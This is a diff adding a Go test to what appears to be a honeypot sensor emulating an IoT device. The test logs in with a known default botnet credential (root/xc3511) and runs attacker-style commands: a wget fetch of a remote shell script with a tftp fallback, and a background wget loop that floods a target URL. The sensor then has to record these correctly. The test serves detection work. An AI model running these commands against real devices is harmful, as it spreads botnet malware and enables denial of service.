@@ -410,3 +410,34 @@ func mustRead(t *testing.T, p string) []byte {
 	}
 	return b
 }
+
+// What the device records of a line is the same on both doors: URLs of
+// commands that did not run (marked), and flood targets as attacks, never
+// as downloads.
+func TestDownloadsAndFloodsAsTelnet(t *testing.T) {
+	ts := startServer(t, DefaultConfig(), sensor.DefaultLimits(), "")
+	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
+	run(t, cl, "cd /tmp; wget http://198.51.100.1/a.sh || tftp -g -r b.sh 198.51.100.2")
+	run(t, cl, `sh -c "while true; do wget -O /dev/null http://203.0.113.80/; done" &`)
+	cl.Close()
+	ts.pub.waitKind(t, event.SessionClosed, 1)
+	var ran, notRan bool
+	for _, d := range ts.pub.ofKind(event.FileDownload) {
+		if d.URL == "http://198.51.100.1/a.sh" && d.Ran != nil && *d.Ran {
+			ran = true
+		}
+		if strings.Contains(string(d.URL), "198.51.100.2") && d.Ran != nil && !*d.Ran {
+			notRan = true
+		}
+		if strings.Contains(string(d.URL), "203.0.113.80") {
+			t.Errorf("flood target recorded as a download: %+v", d)
+		}
+	}
+	if !ran || !notRan {
+		t.Errorf("downloads %+v: want a.sh ran and the tftp fallback not run", ts.pub.ofKind(event.FileDownload))
+	}
+	floods := ts.pub.ofKind(event.AttackHTTPFlood)
+	if len(floods) != 1 || floods[0].TargetURL != "http://203.0.113.80/" || floods[0].Proto != "ssh" {
+		t.Errorf("attack.http_flood events %+v", floods)
+	}
+}
